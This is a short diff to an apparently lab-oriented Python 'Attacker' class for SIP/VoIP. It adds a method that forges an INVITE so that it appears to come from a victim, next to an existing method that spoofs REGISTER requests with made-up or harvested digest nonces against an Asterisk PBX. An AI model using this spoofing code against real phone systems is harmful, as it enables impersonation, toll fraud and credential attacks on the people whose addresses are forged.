@@ -130,6 +130,12 @@ class Attacker:
         """One datagram that says it comes from there."""
         self.host.forge(source, self.pbx, raw, source_port, self.pbx_port)
 
+    def forged_call(self, victim, number, who="100", victim_port=5060):
+        """An INVITE that seems to come from the victim."""
+        self.forge(victim, self.voice.message("INVITE", f"sip:{number}@{self.pbx}:{self.pbx_port}", who=who,
+                                              here=f"{victim}:{victim_port}", headers=["Content-Type: application/sdp"],
+                                              body=sip.session(victim)), victim_port)
+
     def forged_guess(self, victim, account, victim_port=5060, challenge=None, call=None):
         """A REGISTER that seems to come from the victim, with a made-up nonce or with one that was learnt elsewhere."""
         challenge = challenge or {"realm": "asterisk", "nonce": "junk", "qop": "auth"}
